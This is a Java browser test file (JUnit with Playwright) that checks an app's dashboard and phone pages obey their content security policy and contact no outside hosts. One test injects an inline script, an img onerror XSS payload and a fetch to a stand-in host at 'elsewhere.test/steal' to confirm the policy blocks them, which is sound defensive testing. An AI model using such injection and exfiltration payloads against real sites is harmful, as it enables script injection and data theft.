package io.quickdrop.system.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import io.quickdrop.system.harness.ShowServerLogs;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/** The pages keep to their own content policy, speak to nobody but their server, and the policy has teeth. */
@ExtendWith(ShowServerLogs.class)
final class PageSecurityTest {
    @AutoClose
    private static Scene scene;

    @BeforeAll
    static void open(@TempDir Path folder) {
        // A browser that does not trust the certificate notes itself that it keeps no copy of the phone page.
        scene = Scene.trustedIn(folder);
    }

    @AfterEach
    void leave() {
        scene.leave();
    }

    @Test
    void bothPagesWorkWithoutAnErrorAViolationOrARequestToAnybodyElse() {
        BrowserContext laptop = scene.browser(Screen.desktop());
        BrowserContext hand = scene.browser(Screen.phone());
        Watch onLaptop = new Watch(laptop, scene.authorities());
        Watch onPhone = new Watch(hand, scene.authorities());
        DashboardPage dashboard = DashboardPage.open(laptop, scene.server().port());
        PhonePage phone = scene.phone(dashboard, hand);

        phone.record().recordUntil(2).stop().waitUntilSaved(1, Chromium.PATIENCE_MS);
        String id = phone.onlyTake().sessionId();
        dashboard.recording(id).locator(".tile").click();
        PageFact.await(dashboard.page(), "() => document.querySelector('video')?.readyState >= 2");
        dashboard.recording(id).locator("[title=Label]").click();
        dashboard.page().keyboard().type("seen");
        dashboard.page().keyboard().press("Enter");
        dashboard.recording(id).getByText("seen").waitFor();
        dashboard.recording(id).locator("[title=Delete]").click();
        dashboard.button("Undo").click();
        dashboard.recording(id).waitFor();

        assertClean(onLaptop);
        assertClean(onPhone);
        assertThat(onLaptop.requests()).anyMatch(url -> url.contains("/api/recordings/" + id));
        assertThat(onPhone.requests()).anyMatch(url -> url.startsWith("wss://") && url.endsWith("/ws"));
    }

    private static void assertClean(Watch watch) {
        assertThat(watch.violations()).as("violations of the content policy").isEmpty();
        assertThat(watch.errors()).as("errors on the console").isEmpty();
        assertThat(watch.foreignRequests()).as("requests to others").isEmpty();
    }

    /** Also shows that the watch above would have seen something. */
    @Test
    void aScriptThatGotIntoThePageNeitherRunsNorPhonesHome() {
        BrowserContext laptop = scene.browser(Screen.desktop());
        Watch watch = new Watch(laptop, scene.authorities());
        DashboardPage dashboard = DashboardPage.open(laptop, scene.server().port());

        Object fetched = dashboard
                .page()
                .evaluate(
                        """
                        async () => {
                          const script = document.createElement('script');
                          script.textContent = 'window.hacked = 1';
                          document.body.append(script);
                          const div = document.createElement('div');
                          div.innerHTML = '<img src="/none" onerror="window.hacked = 2">';
                          document.body.append(div);
                          return fetch('https://elsewhere.test/steal').then(() => 'sent', () => 'refused');
                        }""");
        dashboard.page().waitForCondition(() -> watch.violations().size() >= 2);

        assertThat(fetched).isEqualTo("refused");
        assertThat(dashboard.page().evaluate("window.hacked")).isNull();
        assertThat(watch.violations()).anyMatch(words -> words.startsWith("script-src"));
        assertThat(watch.violations())
                .anyMatch(words -> words.startsWith("connect-src forbids https://elsewhere.test"));
        assertThat(watch.errors()).isNotEmpty();
    }
}
